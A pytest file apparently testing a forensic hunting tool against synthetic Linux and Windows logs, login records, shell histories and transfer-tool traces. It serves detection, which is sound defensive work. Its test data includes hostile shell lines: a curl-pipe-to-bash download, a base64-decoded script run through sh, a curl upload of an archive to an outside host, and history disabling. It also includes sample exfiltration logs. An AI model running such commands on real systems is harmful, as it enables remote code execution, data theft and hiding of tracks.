"""Linux hosts, web servers, flows and transfer tools: what their text logs say, and what went from them."""

from __future__ import annotations

import gzip
import struct
from collections.abc import Sequence

import pytest

from tests.investigate.hunts.made import MadeHost, signs_of

LOG = "/var/log"
QUIET = [
    f"Nov 14 0{n // 60}:{n % 60:02d}:00 web1 CRON[77]: pam_unix(cron:session): session opened for user root"
    for n in range(300)
]


def join(*lines: str) -> bytes:
    """A file of these lines."""
    return ("\n".join(lines) + "\n").encode()


def night(made: MadeHost, **files: bytes) -> str:
    """A night of a Linux host; `a__b` stands for `a/b` below /var/log."""
    return made.add_night(
        {f"{LOG}/{name.replace('__', '/')}": data for name, data in files.items()}, paths=["/"], host="web1"
    )


def hunt_one(path: str, data: bytes) -> list[tuple[str, str]]:
    """(sign, account) of what one file says."""
    made = MadeHost()
    made.add_night({path: data}, paths=["/"], host="web1")
    return [(trace.sign, trace.account) for trace in made.hunt().traces]


def test_logons_accounts_and_guesses_of_a_linux_host() -> None:
    lines = [
        "Nov 14 03:00:00 web1 sshd[9]: Accepted password for deploy from 203.0.113.9 port 5022 ssh2",
        "Nov 14 03:01:00 web1 useradd[9]: new user: name=sys0, UID=1005, GID=1005, home=/home/sys0, shell=/bin/bash, from=none",
        "Nov 14 03:02:00 web1 usermod[9]: add 'sys0' to group 'sudo'",
        *[
            f"Nov 14 04:00:{n:02d} web1 sshd[9]: Failed password for invalid user a{n} from 203.0.113.9 port 1 ssh2"
            for n in range(12)
        ],
    ]
    assert sorted(hunt_one(f"{LOG}/auth.log", join(*lines))) == [
        ("account.created", "sys0"),
        ("account.raised", "sys0"),
        ("entry.guessing", "a11"),
        ("entry.remote_logon", "deploy"),
    ]


def test_a_log_that_turned_over_lost_nothing_and_one_that_was_cut_did() -> None:
    made = MadeHost()
    night(made, **{"auth.log": join(*QUIET[100:200]), "auth.log.1": join(*QUIET[:100])})
    night(
        made,
        **{
            "auth.log": join(*QUIET[200:]),
            "auth.log.1": join(*QUIET[100:200]),
            "auth.log.2.gz": gzip.compress(join(*QUIET[:100])),
        },
    )
    assert made.hunt().traces == []
    night(made, **{"auth.log": join(*QUIET[200:]), "auth.log.1": join(*QUIET[100:140], *QUIET[150:200])})
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.source, trace.count) == ("hide.vanished", "text/auth", 10)


@pytest.mark.parametrize("later", [{}, {"auth.log": b""}], ids=["gone", "emptied"])
def test_a_log_that_is_gone_or_empty_is_told(later: dict[str, bytes]) -> None:
    made = MadeHost()
    night(made, **{"auth.log": join(*QUIET), "dpkg.log": b"x"})
    night(made, **{**later, "dpkg.log": b"x"})
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.count) == ("hide.vanished", len(set(QUIET)))


def make_wtmp(times: Sequence[int], address: bytes = bytes([203, 0, 113, 9])) -> bytes:
    """Records of logons."""
    record = struct.Struct("<hxxi32s4s32s256shhiii16s20s")
    return b"".join(
        record.pack(7, 1, b"pts/0", b"ts/0", b"deploy", b"", 0, 0, 0, at, 0, address.ljust(16, b"\0"), b"")
        for at in times
    )


def test_login_records_tell_who_came_and_which_were_taken_out() -> None:
    made = MadeHost()
    times = list(range(1_700_000_000, 1_700_010_000, 1000))
    night(made, wtmp=make_wtmp(times))
    night(made, wtmp=make_wtmp(times[:4] + times[6:]))
    result = made.hunt()
    assert sorted({(trace.sign, trace.source) for trace in result.traces}) == [
        ("entry.remote_logon", "utmp/wtmp"),
        ("hide.history", "utmp"),
    ]
    (history,) = [trace for trace in result.traces if trace.sign == "hide.history"]
    assert history.count == 2


def test_a_history_that_shrank_is_told_and_one_that_only_lost_its_oldest_lines_is_not() -> None:
    path = "/root/.bash_history"
    lines = [f"ls -l /srv/{n}" for n in range(100)]
    made = MadeHost()
    made.add_night({path: join(*lines)}, paths=["/"])
    made.add_night({path: join(*lines[10:], "uptime")}, paths=["/"])
    assert made.hunt().traces == []
    made.add_night({path: join("ls")}, paths=["/"])
    assert signs_of(made.hunt()) == ["hide.history"]


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("curl -fsSL http://203.0.113.5/x.sh | bash", "run.download"),
        ("echo aGk= | base64 -d | sh", "run.hidden_script"),
        ("curl -T /srv/all.tar.gz https://transfer.example.net/", "theft.script"),
        ("unset HISTFILE", "hide.history"),
    ],
)
def test_what_was_typed_is_a_trace(line: str, sign: str) -> None:
    assert hunt_one("/home/deploy/.bash_history", join("ls", line)) == [(sign, "deploy")]


RCLONE = join(
    "2023/02/12 01:00:00 DEBUG : Creating backend with remote \"drop:share\"",
    "2023/02/12 01:10:00 INFO  : Departments/Psych/a.docx: Copied (new)",
    "2023/02/12 01:11:00 INFO  : Departments/Psych/b.docx: Copied (new)",
    "Transferred:   	    1.500 GiB / 1.500 GiB, 100%, 10 MiB/s, ETA 0s",
)  # fmt: skip
WINSCP = join(
    ". 2023-02-12 01:00:00.000 Host name: files.example.net (Port: 22)",
    ". 2023-02-12 01:01:00.000 Transfer done: 'C:\\Shares\\a.zip' => '/up/a.zip' [1048576]",
)
FILEZILLA = join(
    "2023-02-12 01:00:00 1 1 Status: Connecting to files.example.net:22...",
    "2023-02-12 01:00:01 1 1 Status: Starting upload of C:\\Shares\\a.zip",
    "2023-02-12 01:00:09 1 1 Status: File transfer successful, transferred 1,048,576 bytes in 8 seconds",
)


@pytest.mark.parametrize(
    ("path", "data", "destination", "size", "files"),
    [
        ("/C/PerfLogs/rclone.log", RCLONE, "drop", 1_610_612_736, 2),
        ("/C/Users/bob/winscp.log", WINSCP, "files.example.net", 1_048_576, 1),
        ("/C/Users/bob/filezilla.log", FILEZILLA, "files.example.net", 1_048_576, 1),
    ],
)
def test_logs_of_transfer_tools_show_what_left(
    path: str, data: bytes, destination: str, size: int, files: int
) -> None:
    made = MadeHost()
    made.add_night({path: data})
    result = made.hunt()
    (trace,) = [one for one in result.traces if one.sign == "theft.log"]
    assert trace.strength == "shown"
    assert trace.more["destinations"] == [destination]
    assert trace.more["bytes_sent"] == size
    assert trace.more["files"] == files
    (taken,) = [one for one in result.answers if one.question == "taken"]
    assert taken.state == "shown"


def test_flows_to_the_outside_are_added_up() -> None:
    header = "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\torig_bytes\tresp_bytes"
    rows = [
        f"{1_700_000_000 + n * 60}.5\tC1\t10.0.0.5\t50000\t203.0.113.5\t443\t300000000\t100" for n in range(4)
    ]
    inside = "1700000000.5\tC1\t10.0.0.5\t50000\t10.0.0.9\t445\t99900000000\t100"
    made = MadeHost()
    made.add_night({"/opt/zeek/logs/conn.log": join(header, *rows, inside)}, paths=["/"], host="sensor")
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.more["bytes_sent"]) == ("theft.flow", 1_200_000_000)


def test_settings_of_transfer_tools_name_their_remotes() -> None:
    conf = b"[drop]\ntype = sftp\nhost = files.example.net\nuser = u\n[m]\ntype = mega\n"
    made = MadeHost()
    made.add_night({"/C/Users/bob/AppData/Roaming/rclone/rclone.conf": conf})
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.account) == ("theft.tool", "bob")
    assert trace.more["destinations"] == ["files.example.net", "mega"]


def test_files_gathered_from_a_share_and_archives_are_told() -> None:
    share = {f"/C/Shares/Staff/plan{n}.docx": f"plan {n}".encode() * 100 for n in range(8)}
    made = MadeHost()
    made.add_night({**share, "/C/PerfLogs/x.txt": b"x"})
    copies = {path.replace("/C/Shares/Staff", "/C/PerfLogs/s"): data for path, data in share.items()}
    parts = {f"/C/Users/Public/d.part{n}.rar": bytes([n]) * 1000 for n in range(4)}
    made.add_night(
        {**share, **copies, **parts, "/C/Windows/Temp/ntds.dit": b"x", "/C/Users/Public/AdFind.exe": b"x"}
    )
    assert signs_of(made.hunt()) == ["account.ntds", "stage.archive", "stage.copy", "tool.named"]
